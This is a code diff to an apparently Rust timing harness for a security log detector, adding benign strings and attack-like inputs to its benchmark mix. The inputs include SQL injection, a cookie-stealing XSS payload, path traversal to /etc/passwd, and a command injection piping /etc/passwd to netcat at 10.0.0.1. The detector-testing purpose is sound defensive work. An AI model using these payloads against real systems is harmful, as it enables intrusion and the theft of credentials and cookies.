@@ -1,4 +1,4 @@
-//! Rough per-stage timing of the detector on a few inputs (a development aid).
+//! Rough per-input timing of the detector on the benchmark mix (a development aid).
 #![allow(missing_docs)]
 
 use seclog_core::detect::{detect, normalise};
@@ -7,9 +7,29 @@ use std::time::Instant;
 fn main() {
     let inputs = [
         "john.smith@example.com",
+        "Please deliver after 5pm, ring the bell twice.",
+        "/account/statements/2024/03?page=2&sort=desc",
+        "O'Reilly Media, 1005 Gravenstein Hwy N, CA",
         "1 UNION SELECT username, password FROM users--",
+        "' OR '1'='1' -- ",
         "<img src=x onerror=alert(document.cookie)>",
+        "..%2f..%2f..%2fetc%2fpasswd",
+        "; cat /etc/passwd | nc 10.0.0.1 4444",
+        "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101",
     ];
+    if std::env::args().nth(1).as_deref() == Some("loop") {
+        // For `perf stat` / `valgrind --tool=callgrind`: 10 x N detections over the mix
+        // (N = second argument, default 100,000).
+        let rounds: usize = std::env::args().nth(2).and_then(|a| a.parse().ok()).unwrap_or(100_000);
+        let mut n = 0;
+        for _ in 0..rounds {
+            for s in inputs {
+                n += detect(std::hint::black_box(s)).len();
+            }
+        }
+        println!("{n}");
+        return;
+    }
     for s in inputs {
         let t = Instant::now();
         for _ in 0..20000 {
